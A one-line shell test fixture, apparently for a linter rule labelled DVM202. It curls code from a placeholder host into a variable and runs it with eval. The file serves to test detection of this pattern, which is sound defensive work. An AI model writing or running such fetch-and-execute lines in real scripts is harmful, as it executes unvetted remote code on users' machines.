# expect: DVM202
declare code; code+=$(curl -s https://x.example.org/a); eval "$code"
